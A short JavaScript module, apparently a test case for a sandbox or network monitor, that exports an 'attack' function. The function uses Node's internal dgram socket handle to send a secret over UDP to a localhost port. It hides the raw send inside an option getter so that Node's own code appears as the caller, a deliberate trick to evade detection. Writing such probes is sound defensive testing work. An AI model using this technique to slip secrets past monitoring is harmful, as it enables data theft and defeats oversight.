// Like handle-udp, but the native send is a bound getter on the options of dgram.createSocket:
// node:dgram reads the option, so the frame that calls the raw send is Node's own.
import dgram from 'node:dgram';
export const meta = { kind: 'network', evidence: 'udp' };
export default function attack(ctx) {
  const carrier = dgram.createSocket('udp4');
  const state = Object.getOwnPropertySymbols(carrier).find((symbol) => String(symbol).includes('state'));
  const handle = carrier[state].handle;
  const rawSend = handle.constructor.prototype.send.bind(handle, {}, [Buffer.from(ctx.secret)], 1, ctx.udpPort, '127.0.0.1', false);
  const options = { type: 'udp4' };
  Object.defineProperty(options, 'reuseAddr', { enumerable: true, get: rawSend });
  const socket = dgram.createSocket(options);
  socket.close();
  carrier.close();
  return 'sent';
}
